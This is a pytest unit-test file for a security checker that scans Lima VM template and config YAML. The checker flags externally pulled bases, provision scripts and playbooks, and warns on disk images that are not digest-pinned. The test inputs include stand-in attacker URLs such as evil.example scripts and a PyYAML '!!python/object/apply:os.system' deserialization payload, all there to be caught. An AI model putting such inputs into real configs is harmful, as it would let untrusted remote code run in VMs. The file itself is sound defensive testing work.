"""Templates that are files: what they pull in, and whether their images are pinned."""

from __future__ import annotations

import pytest

from dvm.checks.files import template_source, unpinned_image
from dvm.model.check import Weight
from dvm.model.evidence import Role, Unreadable
from tests.unit.checks.samples import ESC, file_subject, texts

DIGEST = f"sha256:{'0' * 64}"


def found(text: str) -> list[str]:
    results = template_source.CHECK.run(file_subject(Role.TEMPLATE, "/home/me/dvm/t.yaml", content=text.encode()))
    assert all(result.denies for result in results)
    return [result.detail for result in results]


@pytest.mark.parametrize(
    "text",
    [
        "base: https://evil.example/x.yaml",
        "base: [template:fedora, ./other.yaml]",
        "base: {url: /srv/other.yaml}",
        "base: [{url: 'github:somebody/templates'}]",
        "base: '-'",
        "base: file:///srv/other.yaml",
        "base: TEMPLATE:fedora",
        "provision: [{mode: system, file: ./setup.sh}]",
        "provision: [{file: {url: 'https://evil.example/x.sh'}}]",
        "probes: [{file: ~/probe.sh}]",
        "provision: [{mode: ansible, playbook: play.yaml}]",
        "provision: [{playbook: play.yaml}]",
        "provision: [{mode: ansible}]",
        "x: &a {base: /srv/other.yaml}\n<<: *a",
        "base: template:fedora\nbase: https://evil.example/x.yaml",
        "provision: [{script: 'true', script: 'false'}]",
        "cpus: 1\n---\nbase: https://evil.example/x.yaml",
        "- a list",
        "",
        "a: [",
        "a: !!python/object/apply:os.system ['true']",
        "{1: 2, ? [a] : b}",
        "provision: !!pairs\n- file: https://evil.example/x.sh",
        "provision: !!omap\n- file: https://evil.example/x.sh",
        "provision: !!set {file}",
        "base: !!binary aGVsbG8=",
        "a: !!timestamp x",
        "!!bool base: x",
        "! base: template:fedora",
        "provision: {a: {file: ./setup.sh}}",
        "provision: [./setup.sh]",
        "probes: odd",
    ],
)
def test_template_source_catches(text: str) -> None:
    assert found(text)


@pytest.mark.parametrize(
    "text",
    [
        "base: template:fedora",
        "base: [template:_images/fedora, {url: 'template:_default/mounts'}]",
        "base: []\nimages: []",
        "base:\nprovision:\nprobes: null",
        "provision: [{mode: system, script: 'curl x'}]\nprobes: [{script: 'true'}]",
        "provision: [{file: 'template:docker.sh'}]",
        "param: {base: /srv/x}",
        "message: 'base: /srv/x'",
        "message: '!!pairs'\nparam: {a: 'b !!c'}  # !!omap",
        "provision:\n- script: |\n    !!pairs\n    [ ! -e /x ]",
    ],
)
def test_template_source_passes(text: str) -> None:
    assert found(text) == []


def test_template_source_names_the_line_and_hides_nothing() -> None:
    text = "cpus: 1\nbase:\n- " + '"https://e/\\e[2J' + "x" * 200 + '"\n'
    (result,) = template_source.CHECK.run(file_subject(Role.TEMPLATE, "/home/me/dvm/t.yaml", content=text.encode()))
    assert result.location is not None
    assert result.location.line == 2
    assert ESC not in texts([result])
    assert "x" * 100 not in result.detail
    assert "…" in result.detail


def test_template_source_finds_all_there_is_with_its_line() -> None:
    text = b"cpus: 1\nprovision: odd\nprobes:\n- file: /p\n"
    first, second = template_source.CHECK.run(file_subject(Role.TEMPLATE, content=text))
    assert "`provision` is no list" in first.detail
    assert "`probes[].file` has Lima read /p" in second.detail
    assert [result.location.line for result in (first, second) if result.location] == [2, 3]


def test_a_template_without_content_is_not_theirs() -> None:
    unread = file_subject(Role.TEMPLATE, content=None, problem=Unreadable.DENIED)
    assert template_source.CHECK.run(unread) == []
    assert unpinned_image.CHECK.run(unread) == []


def found_in_config(text: str, name: str = "base.yaml") -> list[str]:
    subject = file_subject(Role.LIMA_CONFIG, f"/l/_config/{name}", content=text.encode())
    results = template_source.CHECK.run(subject)
    assert all(result.denies and "Take it out of" in result.remedy for result in results)
    return [result.detail for result in results]


@pytest.mark.parametrize(
    "text",
    [
        "base: ./evil.yaml",
        "base: https://evil.example/x.yaml",
        "base: template:docker",
        "base: [{url: 'template:docker'}]",
        "provision: [{file: 'template:docker.sh'}]",
        "probes: [{file: ./probe.sh}]",
        "provision: [{mode: ansible, playbook: /tmp/pb.yml}]",
        "provision: [{mode: ansible}]",
        "cpus: 1\n---\nbase: ./evil.yaml",
        "cpus: 1\ncpus: 2",
        "[",
        "- a list",
    ],
)
def test_template_source_catches_what_base_yaml_brings_into_every_new_vm(text: str) -> None:
    assert found_in_config(text)


@pytest.mark.parametrize(
    "text", ["", "# nothing yet\n", "{}", "null", "cpus: 2\nprovision: [{script: 'true'}]", "base: []"]
)
def test_template_source_passes_a_base_yaml_that_is_whole(text: str) -> None:
    assert found_in_config(text) == []


@pytest.mark.parametrize("name", ["default.yaml", "override.yaml"])
def test_of_the_other_files_of_config_only_what_nobody_can_read_is_caught(name: str) -> None:
    """Lima follows no `base` and no `file` of theirs, and what they hold is in the effective configuration."""
    assert found_in_config("provision: [{mode: ansible}]\nbase: /x", name) == []
    assert found_in_config("", name) == []
    assert found_in_config("provision: []\nprovision: [{script: x}]", name)


def unpinned(text: str) -> list[str]:
    results = unpinned_image.CHECK.run(file_subject(Role.TEMPLATE, content=text.encode()))
    assert all(result.severity is Weight.WARN for result in results)
    return [result.detail for result in results]


def test_unpinned_image_catches() -> None:
    (detail,) = unpinned("images: [{location: 'https://example.org/a.qcow2'}]")
    assert "https://example.org/a.qcow2" in detail
    parts = f"kernel: {{location: 'https://e.org/k'}}, initrd: {{location: 'https://e.org/i', digest: '{DIGEST}'}}"
    (detail,) = unpinned(f"images: [{{location: 'https://e.org/a', digest: '{DIGEST}', {parts}}}]")
    assert "https://e.org/k" in detail
    assert unpinned("images: [{location: 'https://e.org/a', digest: ''}]")


@pytest.mark.parametrize(
    "text",
    [
        f"images: [{{location: 'https://example.org/a.qcow2', digest: '{DIGEST}'}}]",
        "images: [{location: /srv/a.qcow2}, {location: ~/b.qcow2}]",
        "images: [odd, {location: [1]}, {arch: x86_64}]",
        "images: https://example.org",
        "base: template:fedora",
        "- a",
        "a: [",
    ],
)
def test_unpinned_image_passes(text: str) -> None:
    assert unpinned(text) == []
